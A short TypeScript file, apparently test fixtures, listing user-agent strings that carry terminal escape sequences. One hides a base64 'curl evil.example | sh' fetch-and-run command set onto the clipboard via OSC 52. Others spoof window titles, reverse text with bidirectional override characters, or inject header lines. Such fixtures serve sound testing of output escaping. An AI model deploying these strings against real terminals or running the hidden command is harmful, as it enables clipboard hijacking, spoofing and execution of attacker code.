/**
 * Texts that would do harm when a terminal prints them unchanged. They are the contents of JSON
 * strings; some use `\u` escapes and some the raw characters, because records have both.
 */
export const hostile = {
	/** Clears the screen, sets the clipboard (OSC 52) and rings the bell. */
	clipboard: 'curl/8.4.0\\u001b[2J\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007',
	/** Sets the window title and colours. */
	title: '\\u001b]0;pwned\\u0007\\u001b[31;1mpython-requests/2.32.3\\u001b[0m\\b\\b',
	/** Reverses the text after it, so that it reads as another name. */
	bidi: 'aws-cli/2.18.5 \u202egnp.ecivres\u202c \u2066x\u2069',
	wide: '监控代理/3.1 (自動収集; 🛰️ 데이터) 👩‍💻',
	/** A tab, a line break and a zero-width space. */
	breaks: 'Go-http-client/1.1\\tX-Trace: 7\\r\\nX-Note:\u200b hello',
	bidiName: 'adm\u202enim',
	wideName: '监控-🦊',
} as const;
